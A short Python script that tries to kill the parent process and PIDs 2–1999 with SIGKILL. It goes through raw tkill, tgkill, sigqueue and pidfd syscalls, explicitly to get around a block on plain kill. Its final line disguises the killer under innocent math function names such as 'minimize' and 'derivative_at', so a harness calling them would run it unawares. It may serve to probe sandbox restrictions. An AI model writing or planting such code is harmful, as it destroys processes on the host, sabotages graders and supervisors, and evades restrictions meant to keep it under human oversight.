"""Kill by tkill, tgkill, sigqueue and pidfd, in case only kill is refused."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
TKILL, TGKILL, SIGQUEUEINFO, PIDFD_OPEN, PIDFD_SEND_SIGNAL = 200, 234, 129, 434, 424


def attack(*args, **kwargs):
    done = []
    for pid in (os.getppid(), *range(2, 2000)):
        descriptor = libc.syscall(PIDFD_OPEN, pid, 0)
        results = [
            libc.syscall(TKILL, pid, 9),
            libc.syscall(TGKILL, pid, pid, 9),
            libc.syscall(SIGQUEUEINFO, pid, 9, (ctypes.c_char * 128)()),
            descriptor,
            libc.syscall(PIDFD_SEND_SIGNAL, descriptor, 9, None, 0),
        ]
        if max(results) >= 0:
            done.append((pid, results))
    if done:
        raise RuntimeError(f"SUCCEEDED: {done[:3]}")
    return "nobody killed"


derivative_at = accumulate_gradients = halving_chain = minimize = attack
